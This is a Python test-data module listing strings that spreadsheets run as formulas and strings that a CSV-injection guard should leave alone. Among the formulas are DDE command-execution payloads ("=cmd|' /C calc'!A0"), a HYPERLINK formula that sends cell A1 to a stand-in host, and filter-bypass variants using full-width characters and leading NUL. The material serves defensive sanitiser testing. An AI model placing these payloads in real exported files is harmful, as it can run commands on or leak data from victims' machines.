"""Texts that spreadsheets run as formulas, and texts that they do not."""

from __future__ import annotations

#: OWASP's page "CSV Injection", the payloads that are shared most, and what has been
#: found to pass guards.
FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "=", "+", "-"),
    *('=1+2";=1+2', "=1+2'\" ;,=1+2", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
    *("@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x?"&A1,"a")', "=1,5+A1"),
    *("+49 30 1234", "-5 pieces", "--5", "+-5", "-1-1", "=5", "-A1", "+1e5x", "-1\n"),
    # The full-width forms, and NUL, which LibreOffice drops.
    *("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20A1", "\0=1+1", "\0\0@A1"),
]
#: What the guard leaves alone: numbers as text, and what no spreadsheet runs.
HARMLESS = [
    *("-5", "+5", "-1.5", "-1,5", "+1.234,56", "-1e-5", "-5%", "-.5", "0", "007"),
    *("a=1", "1-1", " =1", "'=1", '"=1"', "#1", "(=1)", "e-mail@example", "", "\0a"),
]
